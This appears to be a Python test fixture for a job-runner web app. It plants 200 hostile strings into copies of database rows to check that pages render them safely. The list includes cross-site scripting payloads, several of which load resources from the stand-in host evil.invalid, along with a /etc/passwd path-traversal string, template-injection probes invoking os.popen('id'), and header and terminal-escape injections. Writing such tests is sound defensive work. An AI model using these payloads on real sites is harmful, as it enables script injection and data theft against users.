"""Two hundred texts that would like to run in a page, and rows that have them in every column."""

from typing import Any

from sqlalchemy import JSON, Text
from sqlalchemy.schema import Column, Table

from harness.database import Database, PostgresDatabase
from harness.web import CLOSED
from jobrunner.store.schema import metadata

# What ends the place in which a text stands.
_BEFORE = ("", '"', "'>", "-->]]></pre></title></style></textarea></svg>", '" autofocus onfocus=alert(1) x="')
_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.invalid/p.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:alert(1)>'/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.invalid/o></object>",
    "<embed src=http://evil.invalid/e>",
    "<link rel=stylesheet href=http://evil.invalid/s.css>",
    "<style>@import 'http://evil.invalid/i.css'; body{background:url(http://evil.invalid/b)}</style>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action=http://evil.invalid/><input name=x autofocus onfocus=alert(1)><button>retry</button>",
    "<a href=javascript:alert(1) id=main>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(http://evil.invalid/d)' onmouseover=alert(1)>x</div>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.invalid/x",
    "../../../../etc/passwd?format=json#<script>alert(1)</script>",
    "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{# {{ cycler.__init__.__globals__.os.popen('id') }} #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&amp;quot;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e>tpircs/<)1(trela>tpircs<\u2066\u200f\ufeff\u200b",
    "\x1b[2J\x1b]0;owned\x07\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>\x7f\x9b31m",
    "<" * 100 + "script>alert(1)</script" + ">" * 100 + "A" * 300,
    "𝕏＜script＞alert(1)＜/script＞ＡＢ\u0301\u0301\u0301\u0301\U0001f4a3",
)
HOSTILE_TEXTS = [before + runs for before in _BEFORE for runs in _RUNS]
# In rows of which only one may be like this.
_NUMBERED = {"job_attempts": {"sequence": "n.number + 1", "lease_token": "CAST(n.number AS text)"}}


def plant_hostile_rows(database: Database, run_id: int) -> None:
    """Beside this run, and beside the last row of the other tables, two hundred copies of it, with one of the texts in
    each column that takes texts.
    """
    for name, table in metadata.tables.items():
        key = next(iter(table.primary_key)).name
        last = run_id if name == "job_runs" else database.value(f"SELECT max({key}) FROM {name}")
        if last is not None and name != "job_state":
            _copy(database, table, key, last)


def _copy(database: Database, table: Table, key: str, last: object) -> None:
    numbered = _NUMBERED.get(table.name, {})
    columns = {
        column.name: numbered.get(column.name) or _expression(column, database)
        for column in table.c
        if column.name != "id" and column.computed is None
    }
    marks = ", ".join(["(CAST(? AS text), CAST(? AS integer))"] * len(HOSTILE_TEXTS))
    # A column that is empty stays so: what it means for a run is that there is none.
    copied = (
        f"INSERT INTO {table.name} ({', '.join(map(_quoted, columns))})"
        f" SELECT {', '.join(columns.values())} FROM {table.name} AS r,"
        f" (SELECT column1 AS text, column2 AS number FROM (VALUES {marks}) AS v) AS n WHERE r.{key} = ?"
    )
    texts: list[Any] = [value for pair in zip(HOSTILE_TEXTS, range(1, 1000), strict=False) for value in pair]
    database.execute(copied, [*texts, last])


def _quoted(name: str) -> str:
    return f'"{name}"'


def _expression(column: Column[Any], database: Database) -> str:
    """What a column of a copy has."""
    name = f"r.{_quoted(column.name)}"
    if column.name in CLOSED or column.foreign_keys:
        return name
    text = "n.text"
    if column.primary_key or column.unique:
        text = "CAST(n.number AS text) || n.text"
    if isinstance(column.type, JSON) or "json" in type(column.type).__name__.lower():
        made = "jsonb_build" if isinstance(database, PostgresDatabase) else "json"
        return f"CASE WHEN {name} IS NULL THEN NULL ELSE {made}_object({text}, {made}_array({text})) END"
    if isinstance(column.type, Text) or hasattr(column.type, "length"):
        length = getattr(column.type, "length", None)
        cut = f"substr({text}, 1, {length})" if length else text
        return f"CASE WHEN {name} IS NULL THEN NULL ELSE {cut} END"
    return name
